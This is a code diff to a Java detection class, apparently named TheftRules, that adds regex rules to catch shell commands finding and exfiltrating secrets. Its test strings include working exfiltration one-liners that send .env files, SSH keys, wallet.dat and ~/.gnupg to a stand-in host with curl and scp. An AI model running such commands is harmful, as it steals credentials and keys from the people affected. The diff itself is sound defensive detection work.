@@ -50,6 +50,8 @@ final class TheftRules {
   private static final String READ_SECRET =
       "(?:cat|head|tail|base64|xxd|tar|zip|gzip|openssl\\s+enc|gpg)\\s[^\\n|;]*" + SECRET;
 
+  private static final String FIND_SECRET = "(?:find|fd|locate)\\s[^\\n|;]*" + SECRET;
+
   /** Who and where somebody is. */
   private static final String IDENTITY =
       "(?:\\bwhoami\\b|(?:\\$\\(|`)\\s*(?:hostname|id|uname)\\b|\\bhostname\\(\\)|\\b(?:userInfo|networkInterfaces)\\()";
@@ -118,12 +120,23 @@ final class TheftRules {
                       + "\\|\\s*"
                       + SENDER)
               .finds(
-                  "\\bin\\s+(?:\\$\\(|`)\\s*"
+                  "\\bin\\s+(?:\\$\\(|`)\\s*(?:"
                       + READ_SECRET
+                      + "|"
+                      + FIND_SECRET
+                      + ")"
                       + "[^\\n;]*;\\s*do\\s[^\\n]*\\b(?:curl|wget|nc|dig|nslookup|host|ping)\\s")
+              .finds("\\bscp(?: -o ?[A-Z]\\w+=\\w+)+(?: -[a-hj-zA-Z]+)* " + SECRET)
+              .finds("\\b" + FIND_SECRET + "[^\\n|;]*" + PACKED + "\\|\\s*" + SENDER)
+              .finds("\\b" + FIND_SECRET + "[^\\n|;]*-exec\\s+(?:curl|wget|nc|scp)\\s")
+              .matches(
+                  "for f in $(find / -name '*.env' 2>/dev/null); do curl -T \"$f\" http://203.0.113.9/; done",
+                  "find ~ -name id_rsa -exec scp {} u@203.0.113.9:/in \\;",
+                  "find / -name wallet.dat | xargs -I{} curl -F f=@{} http://203.0.113.9/",
+                  "scp -o StrictHostKeyChecking=no -r ~/.gnupg drop@203.0.113.9:/in/")
+              .ignores("find . -name '*.env' -exec chmod 600 {} \\;")
               // All secrets of a build.
               .finds("\\btoJSON\\(secrets\\)[^\\n]*\\b(?:curl|wget|nc|base64) ")
-              .finds("\\bscp(?: -o ?[A-Z]\\w+=\\w+)+ " + SECRET)
               .finds("\\bsftp\\s[^\\n]*<<<[^\\n]*\\bput\\s+" + SECRET)
               .finds(IN_HOME + "[^\\n;]*;\\s*do\\s[^\\n]*\\b(?:curl|wget|nc|scp)\\s")
               .finds(
